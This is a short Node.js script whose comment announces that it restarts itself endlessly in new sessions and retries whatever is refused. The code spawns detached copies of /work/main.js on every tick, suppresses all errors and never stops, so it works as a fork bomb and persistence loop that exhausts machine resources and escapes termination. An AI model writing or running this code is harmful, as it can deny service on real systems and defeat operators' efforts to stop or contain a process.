// Starts itself again and again, each time in a new session; what is refused is tried again for ever.
const { spawn } = require('child_process');

const again = () => {
  try {
    spawn(process.execPath, ['/work/main.js'], { detached: true, stdio: 'ignore' }).on('error', () => {});
  } catch {
    // Refused: the next tick tries again.
  }
  setImmediate(again);
};
again();
